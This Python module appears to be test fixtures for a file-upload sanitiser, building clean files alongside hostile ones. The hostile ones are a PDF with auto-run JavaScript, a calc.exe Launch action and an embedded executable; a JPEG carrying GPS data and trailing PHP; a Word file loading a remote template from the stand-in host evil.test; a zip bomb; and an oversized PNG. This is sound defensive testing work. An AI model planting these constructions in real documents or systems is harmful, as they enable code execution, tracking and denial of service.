"""Files as strangers send them, made here: good ones, and those that try something."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pikepdf
from PIL import Image

SECRET = "Kanariegeheim-83"
SCRIPT = "app.alert('kanarie')"
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body/></w:document>'
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELS = """<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>
<Relationship Id="r2" Type="http://x/relationships/hyperlink" Target="https://voorbeeld.test/" TargetMode="External"/>
</Relationships>"""


def pdf(*pages: str) -> bytes:
    """A PDF with these lines of text, one or more pages, in Helvetica."""
    made = pikepdf.new()
    font = made.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    for text in pages or ("Bladzijde een",):
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        lines = " ".join(f"({line}) Tj 0 -20 Td" for line in text.split("\n"))
        page.obj.Contents = made.make_stream(f"BT /F1 14 Tf 60 760 Td {lines} ET".encode())
    out = BytesIO()
    made.save(out)
    return out.getvalue()


def active_pdf() -> bytes:
    """A PDF that runs a script when it opens, starts a program, and has a file and its maker's name in it."""
    with pikepdf.open(BytesIO(pdf("Gewone tekst"))) as made:
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=SCRIPT)
        made.pages[0].obj.AA = pikepdf.Dictionary(
            O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
        )
        made.attachments["in.exe"] = b"MZ kanarie in bijlage"
        made.docinfo["/Author"] = "Maker Kanarie"
        out = BytesIO()
        made.save(out)
    return out.getvalue()


def locked_pdf() -> bytes:
    with pikepdf.open(BytesIO(pdf())) as made:
        out = BytesIO()
        made.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 20), **more: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "red").save(out, kind, **more)
    return out.getvalue()


def photograph() -> bytes:
    """A photograph with its maker, where it was made, held on its side, and bytes after its end."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x013B] = "Maker Kanarie"
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 5.0, 30.0)})
    return picture("JPEG", exif=exif) + b"<?php kanarie staart ?>"


def packed(**parts: bytes) -> bytes:
    """A zip; names with `__` for `/` and `_dot_` for a point."""
    return zipped({name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()})


def zipped(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def word(**more: bytes) -> bytes:
    """A small Word document, with its maker's name and a template that loads from elsewhere."""
    parts = {
        "[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT, "word/_rels/settings.xml.rels": RELS.encode(),
        "docProps/core.xml": b"<x>Maker Kanarie</x>",
    }  # fmt: skip
    return zipped(parts | {name.replace("__", "/").replace("_dot_", "."): content for name, content in more.items()})


def bomb() -> bytes:
    return word(word__media__b_dot_bin=b"\0" * 250_000_000)


def huge_png() -> bytes:
    """A picture of 900 million pixels in a file of a few kilobytes."""
    import struct
    import zlib

    def piece(name: bytes, content: bytes) -> bytes:
        return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))

    head = struct.pack("!2I5B", 30000, 30000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + piece(b"IHDR", head)
        + piece(b"IDAT", zlib.compress(b"\0" * 100000))
        + piece(b"IEND", b"")
    )
